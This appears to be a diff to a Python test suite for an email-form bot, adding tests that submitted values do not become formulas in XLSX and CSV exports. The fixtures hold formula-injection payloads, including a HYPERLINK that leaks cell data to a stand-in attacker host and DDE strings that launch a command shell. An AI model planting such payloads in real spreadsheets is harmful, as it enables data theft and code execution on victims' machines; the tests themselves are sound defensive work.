@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import base64
 import contextlib
+import csv
 import email
 import email.policy
 import io
@@ -40,14 +41,17 @@ from pathlib import Path
 from typing import Any, ClassVar
 
 import imapclient
+import openpyxl
 import pytest
 from aiosmtpd.controller import Controller
 from aiosmtpd.smtp import AuthResult, LoginPassword
+from sqlalchemy.orm import Session
 
 from mailbot.app import Bot
 from mailbot.config import load_settings
 from mailbot.demo import local_config, write_config
 from mailbot.embedded import EmbeddedImapServer, SmtpSink, free_port
+from mailbot.export import export_records, to_csv, to_xlsx
 from mailbot.imap import MailboxClient, MailboxUnavailable, tls_context, warn_if_plaintext
 from mailbot.logs import configure_logging
 from mailbot.review import ReviewQueue
@@ -1022,3 +1026,51 @@ def test_plaintext_to_another_machine_is_warned_about(
     assert bool(warnings) == warned, warnings
     if warned:
         assert host in warnings[0].getMessage() and "clear text" in warnings[0].getMessage()
+
+
+# --- spreadsheets: a submitted value never becomes a formula ----------------------------------------
+
+FORMULAS = {
+    "project_title": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
+    "department": "+SUM(1,2)",
+    "institution": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "title": "-2+3+cmd|' /C calc'!A0",
+}
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_form() -> bytes:
+    rows = [list(row) for row in SMP_ROWS]
+    rows[0][1] = FORMULAS["project_title"]
+    rows[2][3] = FORMULAS["title"]
+    rows[3][3] = FORMULAS["department"]
+    rows[4][1] = FORMULAS["institution"]
+    return table_form(rows)
+
+
+@pytest.fixture
+def formula_records(tmp_path: Path, imap_server: ImapServer, smtp_sink: SmtpSink) -> Iterator[Session]:
+    raw = message([mime_part(formula_form(), DOCX_TYPE, b'attachment; filename="form.docx"')])
+    imap_server.append("min.gao@aminer.cn", raw, ARRIVAL)
+    with Bot(make_settings(tmp_path, imap_server, smtp_sink)) as bot:
+        assert [item.outcome for item in bot.run_once().processed] == ["accepted"]
+        with bot.store.sessions() as session:
+            fields = export_records(session)[0]["fields"]
+            assert {name: fields[name] for name in FORMULAS} == FORMULAS, "the values were read as sent"
+            yield session
+
+
+def test_submitted_values_are_no_formulas_in_the_workbook(formula_records: Session) -> None:
+    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(formula_records)))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert any(isinstance(cell.value, str) and "HYPERLINK" in cell.value for cell in cells)
+    for cell in cells:
+        assert cell.data_type != "f", (cell.coordinate, cell.value)
+
+
+@pytest.mark.xfail(strict=True, reason="to_csv writes submitted values as they are (reported; mailbot/export.py)")
+def test_submitted_values_are_no_formulas_in_the_csv_export(formula_records: Session) -> None:
+    rows = list(csv.reader(io.StringIO(to_csv(export_records(formula_records)))))
+    assert any("HYPERLINK" in value for row in rows for value in row)
+    for row in rows[1:]:
+        assert not any(value.startswith(_FORMULA_START) for value in row), row
